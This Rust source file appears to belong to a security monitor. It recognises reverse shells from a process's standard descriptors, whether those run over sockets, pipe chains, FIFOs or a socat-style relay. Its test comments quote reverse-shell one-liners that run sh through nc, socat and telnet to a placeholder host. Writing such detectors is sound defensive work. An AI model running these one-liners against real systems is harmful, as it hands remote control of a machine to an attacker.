//! Shells whose input and output lead to a connection.
//!
//! Direct: standard input and standard output are the same connected socket.
//! Indirect: pipes lead from the shell's output to a process that holds a
//! connection, and from such a process to the shell's input. Relayed: both are one end
//! of a pair of sockets, or one terminal, whose other end is held by a process that
//! has one connection, which it has made itself.
//!
//! This file decides by value and reads nothing. `interpreters` reads the descriptors.

use std::collections::{HashMap, HashSet};

use crate::model::printable;
use crate::sys::procfs::Descriptor;

/// How many pipes may lie between a connection and the shell.
const MAX_HOPS: usize = 8;

/// The standard input, output and error of one process; `None` for what is closed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Standard(pub(crate) [Option<Descriptor>; 3]);

impl Standard {
    /// The one socket that is both input and output.
    pub(crate) fn socket(&self) -> Option<u64> {
        match &self.0[..2] {
            [Some(Descriptor::Socket(input)), Some(Descriptor::Socket(output))] => {
                (input == output).then_some(*input)
            }
            _ => None,
        }
    }

    pub(crate) fn input_pipe(&self) -> Option<Pipe> {
        pipe(self.0[0].as_ref())
    }

    fn output_pipes(&self) -> impl Iterator<Item = Pipe> {
        self.0[1..].iter().filter_map(|descriptor| pipe(descriptor.as_ref()))
    }

    /// The one terminal that is both input and output.
    fn terminal(&self) -> Option<u32> {
        match &self.0[..2] {
            [Some(Descriptor::Terminal(input)), Some(Descriptor::Terminal(output))] => {
                (input == output).then_some(*input)
            }
            _ => None,
        }
    }

    /// Whether pipes may lead from here to a connection.
    fn is_piped(&self) -> bool {
        self.input_pipe().is_some() && self.output_pipes().next().is_some()
    }

    /// Whether another process can hold the connection.
    pub(crate) fn may_be_relayed(&self) -> bool {
        self.is_piped() || self.socket().is_some() || self.terminal().is_some()
    }
}

fn pipe(descriptor: Option<&Descriptor>) -> Option<Pipe> {
    match descriptor {
        Some(Descriptor::Pipe { device, inode }) => Some((*device, *inode)),
        _ => None,
    }
}

/// A pipe or FIFO, by its inode.
pub(crate) type Pipe = (u64, u64);

/// A process of the shell's container, with the descriptors that may be other ends.
#[derive(Clone, Debug, Default)]
pub(crate) struct Neighbour {
    pub(crate) name: String,
    /// The pipes that it has open for reading and for writing.
    pub(crate) reads: Vec<Pipe>,
    pub(crate) writes: Vec<Pipe>,
    /// The open sockets that are no connections.
    pub(crate) sockets: Vec<u64>,
    /// The terminals whose master it holds.
    pub(crate) terminals: Vec<u32>,
    /// The other end of a connection that it holds.
    pub(crate) connection: Option<String>,
    /// It holds no other connection, and has not accepted this one. Programs that serve
    /// people (sshd, terminals in a browser) accept their connections, and a supervisor that
    /// gives commands has several.
    pub(crate) is_relay: bool,
}

/// Recognises a shell by the pipes around it: what it writes reaches a process
/// with a connection, and what it reads comes from one.
pub(crate) fn piped(shell: &Standard, others: &[Neighbour]) -> Option<String> {
    let input = shell.input_pipe()?;
    let mut readers: HashMap<Pipe, Vec<&Neighbour>> = HashMap::new();
    let mut writers: HashMap<Pipe, Vec<&Neighbour>> = HashMap::new();
    for other in others {
        for pipe in &other.reads {
            readers.entry(*pipe).or_default().push(other);
        }
        for pipe in &other.writes {
            writers.entry(*pipe).or_default().push(other);
        }
    }
    let to = shell.output_pipes().find_map(|pipe| reach(pipe, &readers, |other| &other.writes))?;
    let from = reach(input, &writers, |other| &other.reads)?;
    let (to, to_name) = (to.connection.as_deref()?, &to.name);
    let (from, from_name) = (from.connection.as_deref()?, &from.name);
    Some(if to == from {
        format!("its input and output are pipes to {to_name}, which is connected to {to}")
    } else {
        format!(
            "its input is a pipe from {from_name}, which is connected to {from}; \
             its output is a pipe to {to_name}, which is connected to {to}"
        )
    })
}

/// Recognises a shell whose input and output are one end of a pair of sockets or of a
/// terminal, if a relay holds the other end. The kernel gives the sockets of a pair
/// consecutive numbers.
pub(crate) fn relayed(shell: &Standard, others: &[Neighbour]) -> Option<String> {
    let (socket, terminal) = (shell.socket(), shell.terminal());
    let is_pair = |other: &u64| socket.is_some_and(|socket| socket.abs_diff(*other) == 1);
    let holds_other_end = |other: &Neighbour| {
        other.sockets.iter().any(is_pair)
            || terminal.is_some_and(|terminal| other.terminals.contains(&terminal))
    };
    let relay = others.iter().find(|other| other.is_relay && holds_other_end(other))?;
    let (name, remote) = (&relay.name, relay.connection.as_deref()?);
    let what = if socket.is_some() { "pair of sockets" } else { "terminal" };
    Some(format!("its input and output are a {what} to {name}, which is connected to {remote}"))
}

/// The first process with a connection along the pipes.
fn reach<'a>(
    start: Pipe,
    ends: &HashMap<Pipe, Vec<&'a Neighbour>>,
    onward: impl Fn(&Neighbour) -> &[Pipe],
) -> Option<&'a Neighbour> {
    let mut seen = HashSet::from([start]);
    let mut at = vec![start];
    for _ in 0..MAX_HOPS {
        let mut next = Vec::new();
        for other in at.iter().filter_map(|pipe| ends.get(pipe)).flatten() {
            if other.connection.is_some() {
                return Some(other);
            }
            next.extend(onward(other).iter().copied().filter(|pipe| seen.insert(*pipe)));
        }
        at = next;
    }
    None
}

/// The evidence for a shell on a socket.
pub(crate) fn direct(remote: &str) -> String {
    format!("its input and output are one connection, to {remote}")
}

/// A program's name, for people.
pub(crate) fn name_of(program: &[u8]) -> String {
    printable(program)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `socket:1 socket:1 -` and so on.
    fn standard(text: &str) -> Standard {
        let mut fields = text.split(' ').map(|field| match field.split_once(':') {
            Some(("socket", number)) => Some(Descriptor::Socket(number.parse().unwrap())),
            Some(("terminal", number)) => Some(Descriptor::Terminal(number.parse().unwrap())),
            Some(("pipe", number)) => {
                Some(Descriptor::Pipe { device: 1, inode: number.parse().unwrap() })
            }
            _ => (field != "-").then_some(Descriptor::Other),
        });
        Standard([fields.next().unwrap(), fields.next().unwrap(), fields.next().unwrap()])
    }

    fn other(name: &str, reads: &[u64], writes: &[u64], connection: Option<&str>) -> Neighbour {
        let pipes = |inodes: &[u64]| inodes.iter().map(|inode| (1, *inode)).collect();
        Neighbour {
            name: name.into(),
            reads: pipes(reads),
            writes: pipes(writes),
            connection: connection.map(ToOwned::to_owned),
            ..Neighbour::default()
        }
    }

    /// A process that holds the other ends of these, and a connection.
    fn relay(sockets: &[u64], terminals: &[u32]) -> Neighbour {
        Neighbour {
            sockets: sockets.to_vec(),
            terminals: terminals.to_vec(),
            is_relay: true,
            ..other("socat", &[], &[], Some("192.0.2.1:4444"))
        }
    }

    #[test]
    fn a33_a_relay_holds_the_other_end() {
        // socat TCP:HOST:4444 EXEC:/bin/sh, and with `,pty`
        let evidence =
            |text, relay| relayed(&standard(text), &[other("sh", &[], &[], None), relay]);
        let text = "its input and output are a pair of sockets to socat, which is connected to \
                    192.0.2.1:4444";
        assert_eq!(evidence("socket:8 socket:8 -", relay(&[7], &[])).as_deref(), Some(text));
        assert!(evidence("socket:8 socket:8 -", relay(&[9], &[])).is_some());
        assert!(evidence("terminal:2 terminal:2 terminal:2", relay(&[], &[2])).is_some());
        // Other sockets and terminals.
        assert_eq!(evidence("socket:8 socket:8 -", relay(&[6, 10], &[8])), None);
        assert_eq!(evidence("terminal:2 terminal:2 -", relay(&[1, 3], &[3])), None);
        // Programs run others with three pairs; and a service accepts its connections.
        assert_eq!(evidence("socket:8 socket:10 socket:12", relay(&[7, 9, 11], &[])), None);
        let service = Neighbour { is_relay: false, ..relay(&[7], &[2]) };
        assert_eq!(evidence("terminal:2 terminal:2 -", service), None);
    }

    #[test]
    fn a32_one_socket_is_both_input_and_output() {
        assert_eq!(standard("socket:7 socket:7 socket:7").socket(), Some(7));
        assert_eq!(standard("socket:7 socket:7 tty").socket(), Some(7));
        assert_eq!(standard("socket:7 socket:8 -").socket(), None);
        assert_eq!(standard("pipe:7 pipe:7 -").socket(), None);
        assert_eq!(standard("socket:7 - -").socket(), None);
    }

    #[test]
    fn a33_a_fifo_closes_the_circle() {
        // rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST 4444 > /tmp/f
        let shell = standard("pipe:1 pipe:2 pipe:2");
        let others = [
            other("cat", &[3], &[1], None),
            other("nc", &[2], &[3], Some("192.0.2.1:4444")),
            other("sh", &[], &[], None),
        ];
        assert_eq!(
            piped(&shell, &others).as_deref(),
            Some("its input and output are pipes to nc, which is connected to 192.0.2.1:4444")
        );
    }

    #[test]
    fn a33_two_connections_are_as_good_as_one() {
        // telnet HOST 1 | sh | telnet HOST 2
        let shell = standard("pipe:1 pipe:2 tty");
        let others = [
            other("telnet", &[], &[1], Some("192.0.2.1:1")),
            other("telnet", &[2], &[], Some("192.0.2.1:2")),
        ];
        assert!(piped(&shell, &others).unwrap().contains("192.0.2.1:1"));
    }

    #[test]
    fn a_script_from_a_downloader_is_no_reverse_shell() {
        // curl | sh | tee
        let shell = standard("pipe:1 pipe:2 tty");
        let others =
            [other("curl", &[], &[1], Some("192.0.2.1:80")), other("tee", &[2], &[], None)];
        assert_eq!(piped(&shell, &others), None);
        let only_input = standard("pipe:1 tty tty");
        assert!(!only_input.may_be_relayed());
        assert_eq!(piped(&only_input, &others), None);
    }

    #[test]
    fn pipes_that_lead_in_circles_end() {
        let shell = standard("pipe:1 pipe:2 tty");
        let others = [other("a", &[2], &[1], None), other("b", &[1], &[2], None)];
        assert_eq!(piped(&shell, &others), None);
    }
}
